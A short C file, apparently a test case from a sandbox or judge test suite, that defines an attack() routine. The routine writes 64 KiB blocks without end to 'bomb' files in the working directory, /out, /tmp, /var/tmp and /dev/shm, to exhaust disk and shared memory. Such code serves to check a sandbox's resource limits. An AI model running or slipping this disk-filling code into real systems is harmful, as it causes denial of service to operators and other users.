#include "attacks/raw.h"
#include "attacks/on-call.h"

#include <fcntl.h>

static const char block[1 << 16];

static void attack(void)
{
    static const char *const paths[] = {"bomb", "/out/bomb", "/tmp/bomb",
                                        "/var/tmp/bomb", "/dev/shm/bomb"};
    for (int i = 0; i < 5; i++) {
        long fd = raw_open(paths[i], O_WRONLY | O_CREAT);
        while (fd >= 0 && raw_write((int)fd, block, sizeof block) > 0)
            ;
    }
}
